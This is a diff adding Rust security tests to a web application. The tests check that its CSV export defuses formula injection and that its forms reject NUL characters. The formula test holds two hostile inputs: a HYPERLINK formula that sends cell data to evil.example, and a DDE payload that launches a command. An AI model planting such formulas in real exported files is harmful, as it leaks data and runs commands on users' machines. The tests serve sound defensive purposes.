@@ -1046,3 +1046,89 @@ async fn mine_lists_the_nearest_fifty_awaiting_cases_and_links_to_the_rest() {
     assert_eq!(all.status, reqwest::StatusCode::OK);
     assert!(all.count("tbody tr") >= 50);
 }
+
+// ASVS 5.0 V1.2.10 (protection against CSV and formula injection): a name typed as a
+// formula reaches the CSV export as text, with a leading quote.
+#[tokio::test]
+async fn a_formula_in_a_name_is_defused_in_the_csv_export() {
+    let app = TestApp::spawn().await;
+    let mut c = app.login("levanger.saksbehandler").await;
+    let evil = "=HYPERLINK(\"https://evil.example/?d=\"&A1;\"Klikk\")";
+    register(&mut c, evil, &fnr("121290", 8)).await;
+    register(&mut c, "@SUM(1+1)*cmd|' /C calc'!A0", &fnr("121290", 9)).await;
+    let res = c
+        .http
+        .get(format!("{}/soknader/eksport.csv", c.base))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::OK);
+    let body = res.text().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new()
+        .delimiter(b';')
+        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
+    let mut cells = Vec::new();
+    for record in reader.records() {
+        cells.extend(record.unwrap().iter().map(str::to_owned));
+    }
+    assert!(cells.contains(&format!("'{evil}")), "{body}");
+    assert!(cells.contains(&"'@SUM(1+1)*cmd|' /C calc'!A0".to_string()));
+    for cell in &cells {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a live formula in the export: {cell:?}"
+        );
+    }
+}
+
+// ASVS 5.0 V2.2.1 (input is validated to enforce functional expectations): the one input
+// rule refuses NUL in urlencoded forms and in multipart text fields alike, with the
+// Norwegian page, and nothing is stored.
+#[tokio::test]
+async fn nul_characters_are_refused_in_forms_and_multipart_fields() {
+    let app = TestApp::spawn().await;
+    let mut c = app.login("levanger.saksbehandler").await;
+    // Urlencoded: a registration with a NUL in the name.
+    c.get("/soknader/ny").await;
+    let fields = registration("Kari\u{0}Nordmann", &fnr("101080", 3));
+    let res = post_pairs(&mut c, "/soknader/ny", &fields).await;
+    assert_eq!(res.status, StatusCode::BAD_REQUEST, "{}", res.text);
+    assert!(
+        res.text_of("h1").contains("Ugyldig forespørsel"),
+        "{}",
+        res.text
+    );
+    assert_eq!(app.audit_count("application.registered").await, 0);
+
+    // Multipart: a document title with a NUL.
+    let id = register(&mut c, "Nul Søker", &fnr("101080", 4)).await;
+    c.get(&format!("/soknader/{id}")).await;
+    let csrf = c.csrf.clone().unwrap();
+    let url = format!("{}/soknader/{id}/dokumenter", c.base);
+    let pdf = b"%PDF-1.4\n%test\n%%EOF\n".to_vec();
+    for form in [
+        multipart(&csrf, "Lønn\u{0}slipp", "lønn.pdf", pdf.clone()),
+        multipart(&csrf, "Lønnsslipp", "lønn\u{0}.pdf", pdf.clone()),
+    ] {
+        let res = c.http.post(&url).multipart(form).send().await.unwrap();
+        assert_eq!(res.status(), StatusCode::BAD_REQUEST);
+        assert!(res.text().await.unwrap().contains("Ugyldig forespørsel"));
+    }
+    let documents = scalar_i64(
+        &app,
+        "5037",
+        "SELECT count(*) FROM application_documents WHERE application_id = $1",
+        id,
+    )
+    .await;
+    assert_eq!(documents, 0);
+    // The same upload without the NUL is accepted.
+    let res = c
+        .http
+        .post(&url)
+        .multipart(multipart(&csrf, "Lønnsslipp", "lønn.pdf", pdf))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), StatusCode::SEE_OTHER);
+}
